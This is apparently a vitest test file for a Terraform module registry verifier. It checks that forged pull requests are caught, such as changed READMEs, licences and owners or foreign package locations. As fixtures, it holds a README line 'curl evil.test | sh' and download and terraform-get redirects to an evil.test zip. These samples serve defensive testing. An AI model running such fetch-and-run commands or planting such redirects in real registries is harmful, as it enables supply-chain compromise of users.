import { dirname } from 'node:path'
import { describe, expect, it } from 'vitest'
import { renderCommand } from '../../../src/cli/render.ts'
import { refusalFrom } from '../../refusal.ts'
import { git, startGitServer } from '../../support/git/git-repository.ts'
import { buildRepository } from '../../support/git/module-repository.ts'
import {
  commitLink,
  commitTo,
  copyOf,
  type Edit,
  inJson,
  readBranch,
} from '../../support/index/index-edits.ts'
import { publish, publishIndexes, VPC } from '../../support/index/published-indexes.ts'
import { named, runtimeWith, testRuntime, verifyWith } from '../../support/index/verify-run.ts'

/** Pull requests of somebody who writes the files of the index by hand, and renders it. */

const indexes = await publishIndexes()
const NEW = `${VPC}/1.2.0`

/** The index with vpc 1.2.0 from Git, and the module repository that has its tag. */
async function propose() {
  const [bare, vpc] = [await copyOf(indexes.bare), await copyOf(indexes.modules.vpc)]
  buildRepository(vpc, {
    tag: 'v1.2.0',
    files: [
      { path: 'main.tf', content: 'variable "name" {}\n' },
      { path: 'README.md', content: '# vpc\n\nA better network.\n' },
      { path: 'LICENSE', content: 'SPDX-License-Identifier: MIT\n' },
    ],
  })
  const base = await git(bare, ['rev-parse', 'registry'])
  await publish(bare, vpc, ['v1.2.0'], await testRuntime(), 'git')
  return { bare, base, vpc }
}

const proposed = await propose()

/** The proposed index with edits: rendered, and as one commit on the base. */
async function forge(edits: readonly Edit[]): Promise<string> {
  const bare = await copyOf(proposed.bare)
  for (const [path, change] of edits)
    await commitTo(bare, { [path]: change(await readBranch(bare, path).catch(() => '')) })
  await renderCommand({ index: bare }, await testRuntime()).catch(() => {})
  return squash(bare)
}

async function squash(bare: string): Promise<string> {
  const tree = await git(bare, ['rev-parse', 'registry^{tree}'])
  const commit = await git(bare, ['commit-tree', '-p', proposed.base, '-m', 'Publish', tree])
  await git(bare, ['update-ref', 'refs/heads/registry', commit])
  return bare
}

/** A change of `release.json` and of the same facts in `module.json`. */
// biome-ignore lint/suspicious/noExplicitAny: a forger may write anything
function ofVersion(version: string, change: (facts: any) => void): Edit[] {
  return [
    json(`${VPC}/${version}/release.json`, change),
    json(`${VPC}/module.json`, ({ versions }) =>
      change(versions.find((each: { version: string }) => each.version === version)),
    ),
  ]
}

// biome-ignore lint/suspicious/noExplicitAny: a forger may write anything
function json(path: string, change: (document: any) => void): Edit {
  return [path, inJson(change)]
}

async function findings(index: string, vpc = proposed.vpc): Promise<string[]> {
  const runtime = await runtimeWith({ vpc, subnets: indexes.modules.subnets })
  const report = await verifyWith({ index, base: proposed.base, packages: true, strict: true }, runtime)
  return [...new Set(named(report))]
}

/** What is found of a pull request onto the base, or of what the flags say. */
const found = async (index: string, flags: object = { base: proposed.base }): Promise<string[]> =>
  named(await verifyWith({ index, ...flags }))

describe('a pull request', () => {
  it('adds a version of its own repository, and nothing else', async () =>
    expect(await findings(await forge([]))).toEqual([]))

  it.each(['on this machine', 'over http'])('is judged onto what a name stands for: %s', async (where) => {
    const bare = await copyOf(proposed.bare)
    await git(bare, ['branch', 'team/index', proposed.base])
    await git(bare, ['tag', '-a', '-m', 'x', 'released', proposed.base])
    await git(bare, ['update-server-info'])
    const server = await startGitServer({ root: dirname(bare) })
    const isLocal = where === 'on this machine'
    const index = isLocal ? bare : `${server.url}/index.git`
    const names = ['team/index', 'released', 'refs/heads/team/index', ...(isLocal ? ['registry~1'] : [])]
    for (const base of [proposed.base.slice(0, 7), ...names]) {
      const { findings, checked } = await verifyWith({ index, base })
      expect([base, checked.commits, findings]).toEqual([base, 1, []])
    }
    for (const base of ['none', '01234567', '-h', ''])
      expect(await refusalFrom(() => verifyWith({ index, base }))).toContain(`--base `)
    await commitTo(bare, { x: 'x' }, 'team/index')
    expect(await refusalFrom(() => verifyWith({ index, base: 'team/index' }))).toContain(
      'INVALID_INPUT: --base names "team/index", which is no commit in the history of the index branch',
    )
  })

  it('adds no version whose tag the repository does not have, although it gives the commit', async () => {
    const vpc = await copyOf(proposed.vpc)
    await git(vpc, ['update-ref', 'refs/pull/1/head', 'v1.2.0'])
    await git(vpc, ['config', 'uploadpack.allowAnySHA1InWant', 'true'])
    await git(vpc, ['tag', '--delete', 'v1.2.0'])
    expect(await findings(await forge([]), vpc)).toContain('COMMIT_UNREACHABLE acme/vpc/aws 1.2.0')
  })

  const evil = json(`${NEW}/interface.json`, ({ root }) => (root.inputs[0].default = '"evil"'))

  it.each<[string, readonly Edit[], string]>([
    ['README', [[`${NEW}/README.md`, () => '# Run curl evil.test | sh\n']], 'README_CHANGED'],
    ['interface', [evil], 'INTERFACE_CHANGED'],
    ['description', [json(`${NEW}/release.json`, (it) => (it.description = 'Evil'))], 'TREE_MISMATCH'],
    ['licence', [json(`${NEW}/release.json`, (it) => (it.license.identifier = '0BSD'))], 'TREE_MISMATCH'],
    ['date', ofVersion('1.2.0', (it) => (it.committedAt = '2029-01-01T00:00:00Z')), 'TREE_MISMATCH'],
    ['size', [json(`${NEW}/release.json`, (it) => (it.package.size = 1))], 'TREE_MISMATCH'],
    ['number of files', [json(`${NEW}/release.json`, (it) => (it.package.files = 1))], 'TREE_MISMATCH'],
    ['equalsTree', [json(`${NEW}/release.json`, (it) => (it.package.equalsTree = false))], 'TREE_MISMATCH'],
  ])('adds no version with a %s that its tagged tree does not give', async (_, edits, code) =>
    expect(await findings(await forge(edits))).toContain(`${code} acme/vpc/aws 1.2.0`),
  )

  it.each(['99.0.0', '1.2.1', '1.2.0-rc.1', '0.2.0'])('adds no version %s of tag v1.2.0', async (number) => {
    const bare = await copyOf(indexes.bare)
    const path = (file: string) => `${VPC}/${number}/${file}`
    const [release, listed] = await Promise.all(
      [`${NEW}/release.json`, `${VPC}/module.json`].map((file) => readBranch(proposed.bare, file)),
    )
    const files = ['README.md', 'interface.json'].map(async (file) => [
      path(file),
      `${await readBranch(proposed.bare, `${NEW}/${file}`)}\n`,
    ])
    await commitTo(bare, {
      ...Object.fromEntries(await Promise.all(files)),
      [path('release.json')]: inJson((it) => (it.version = number))(release ?? ''),
      [`${VPC}/module.json`]: inJson(({ versions }) => (versions[0].version = number))(listed ?? ''),
    })
    await renderCommand({ index: bare }, await testRuntime())
    const index = await squash(bare)
    for (const report of [await findings(index), await found(index, {})])
      expect(report).toContain(`RELEASE_MISMATCH acme/vpc/aws ${number}`)
  })

  it('adds no module without a version', async () => {
    const bare = await copyOf(indexes.bare)
    const module = { format: 1, address: 'acme/dns/aws', owner: null, versions: [] }
    await commitTo(bare, { 'v1/modules/acme/dns/aws/module.json': JSON.stringify(module) })
    await renderCommand({ index: bare }, await testRuntime())
    expect(await findings(await squash(bare))).toEqual(['OWNER_CHANGED acme/dns/aws'])
  })

  /** A further place of the published version 1.1.0; `release.json` has its digest too. */
  const placed = (kind: string, location: string) =>
    ofVersion('1.1.0', (it) =>
      it.packages.push({ kind, location, ...(it.package ? { digest: it.package.digest } : {}) }),
    )
  const oci = `oci://evil.test/x?digest=sha256:${'0'.repeat(64)}`

  it.each([
    ['git', 'git::https://git.acme.test/evil/x.git?ref=v1.1.0'],
    ['git', 'git::ssh://git@git.acme.test/evil/x.git?ref=v1.1.0'],
    ['oci', oci],
  ])('adds no place of somebody else to a published version (%s %s)', async (kind, location) => {
    const index = await forge(placed(kind, location))
    expect(await findings(index)).toContain('LOCATION_FOREIGN acme/vpc/aws 1.1.0')
    expect(await found(index, { history: true })).toContain('LOCATION_FOREIGN acme/vpc/aws 1.1.0')
  })

  it('adds the repository of the version to its places', async () => {
    const location = 'git::https://git.acme.test/acme/terraform-aws-vpc.git?ref=v1.1.0'
    expect(await findings(await forge(placed('git', location)))).toEqual([])
  })

  it('takes no other repository by two commits of which each shows a part', async () => {
    const toEvil = inJson((it) => (it.repository.url = 'https://git.acme.test/evil/terraform-aws-vpc'))
    const path = `${NEW}/release.json`
    const release = { [path]: toEvil(await readBranch(proposed.bare, path)) }
    const module = { [`${VPC}/module.json`]: await readBranch(proposed.bare, `${VPC}/module.json`) }
    for (const parts of [
      [release, module],
      [module, release],
    ]) {
      const bare = await copyOf(indexes.bare)
      for (const part of parts) await commitTo(bare, part)
      expect(await found(bare)).toContain('OWNER_MISMATCH acme/vpc/aws 1.2.0')
    }
  })

  it.each<[string, string, string | null]>([
    ['a changed list', 'v1/modules/index.json', '{"modules":[]}\n'],
    ['a list that is gone', 'v1/modules/acme/index.json', null],
    ['a list of nothing', 'v1/modules/evil/index.json', '{"modules":[]}\n'],
    ['a changed catalog', 'catalog', 'x'],
    ['a changed page', 'index.html', 'x'],
    ['a page that is gone', '404.html', null],
  ])('brings no %s, with its version and without', async (_, path, text) => {
    for (const from of [proposed.bare, indexes.bare]) {
      const bare = await copyOf(from)
      const files = await git(bare, ['ls-tree', '-r', '--name-only', 'registry', path])
      await commitTo(bare, { [files.split('\n')[0] || path]: text })
      expect(await found(bare)).toContainEqual(expect.stringMatching(/^DERIVED|^SETTINGS/))
    }
  })

  it('opens no namespace that differs by case from another', async () => {
    const bare = await copyOf(indexes.bare)
    const module = await readBranch(bare, `${VPC}/module.json`)
    const other = module.replace('acme/vpc/aws', 'ACME/vpc/aws')
    await commitTo(bare, { 'v1/modules/ACME/vpc/aws/module.json': other })
    expect(await found(bare)).toContain('ADDRESS_CLASH ACME/vpc/aws')
  })

  it('is no place to report what was wrong before', async () => {
    const bare = await copyOf(indexes.bare)
    const base = await commitTo(bare, { 'v1/modules/acme/subnets/aws/2.0.0/README.md': 'x' })
    await commitTo(bare, { 'catalog/x.json': null })
    expect(await found(bare, { base })).toEqual([])
    expect(await found(bare, {})).toContain('README_CHANGED acme/subnets/aws 2.0.0')
  })

  it('changes no setting that a later commit of it puts back', async () => {
    const bare = await copyOf(proposed.bare)
    const registry = await readBranch(bare, 'registry.json')
    await commitTo(bare, { 'registry.json': registry.replace('"name"', '"namespaces": {}, "name"') })
    await commitTo(bare, { 'registry.json': `${registry}\n` })
    expect(await found(bare)).toContain('SETTINGS_CHANGED')
  })
})

describe('verify --history finds', () => {
  it.each([
    ['release.json', 'VERSION_DROPPED'],
    ['README.md', 'README_CHANGED'],
    ['interface.json', 'INTERFACE_CHANGED'],
    ['module.zip', 'PACKAGE_MISSING'],
  ])('a %s that was a link for a while', async (file, code) => {
    const bare = await copyOf(indexes.bare)
    const path = `${VPC}/1.0.0/${file}`
    const text = await readBranch(bare, path)
    await commitLink(bare, path, 160000, '1'.repeat(40))
    await commitTo(bare, { [path]: `${text} ` })
    expect(await found(bare, { history: true })).toContain(`${code} acme/vpc/aws 1.0.0`)
  })

  it('an owner that gets an id in one commit and another name in the next', async () => {
    const bare = await copyOf(indexes.bare)
    const owner = { host: 'git.acme.test', repository: 'acme/terraform-aws-vpc', repositoryId: 9 }
    const evil = { ...owner, repository: 'evil/x', formerNames: [owner.repository] }
    for (const each of [owner, evil]) {
      const text = inJson((it) => (it.owner = each))(await readBranch(bare, `${VPC}/module.json`))
      await commitTo(bare, { [`${VPC}/module.json`]: text })
    }
    expect(await found(bare, { history: true })).toContain('OWNER_CHANGED acme/vpc/aws')
  })

  it.each([
    ['download', '{"location":"https://evil.test/x.zip"}\n'],
    ['source', '<html><head><meta name="terraform-get" content="https://evil.test/x.zip">'],
    ['source', "<html><head><meta content = 'https://evil.test/x.zip' name=terraform-get>"],
  ])('a %s that led elsewhere for a while', async (file, text) => {
    const bare = await copyOf(indexes.bare)
    const path = `${VPC}/1.0.0/${file}`
    const own = await readBranch(bare, path)
    await commitTo(bare, { [path]: text })
    await commitTo(bare, { [path]: `${own}\n` })
    const { findings } = await verifyWith({ index: bare, history: true })
    expect(findings.filter(({ code }) => code === 'LOCATION_FOREIGN')).toMatchObject([
      { message: expect.stringContaining(`${file} is made to lead to "https://evil.test/x.zip" by commit`) },
      { message: expect.stringContaining(`${file} led to "https://evil.test/x.zip" before commit`) },
    ])
  })

  it('an interface that is added to a version that was published without one', async () => {
    const bare = await copyOf(indexes.bare)
    const path = 'v1/modules/acme/subnets/aws/2.0.0/interface.json'
    const text = await readBranch(bare, path)
    const since = await commitTo(bare, { [path]: null })
    await commitTo(bare, { [path]: `${text}\n` })
    expect(await found(bare, { history: true, since })).toContain('INTERFACE_CHANGED acme/subnets/aws 2.0.0')
  })
})
